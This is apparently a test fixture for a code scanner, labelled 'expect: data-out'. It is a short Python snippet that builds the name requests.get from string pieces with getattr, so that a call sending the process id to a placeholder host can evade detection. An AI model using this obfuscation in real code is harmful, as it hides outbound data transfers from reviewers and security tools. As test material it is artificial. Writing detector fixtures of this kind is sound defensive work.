# expect: data-out
# source: issue 4
# technique: folded getattr to requests.get with a computed URL
import os
import requests

fetch = getattr(requests, "g" + "et")
fetch("https://api.example.com/run/" + str(os.getpid()))
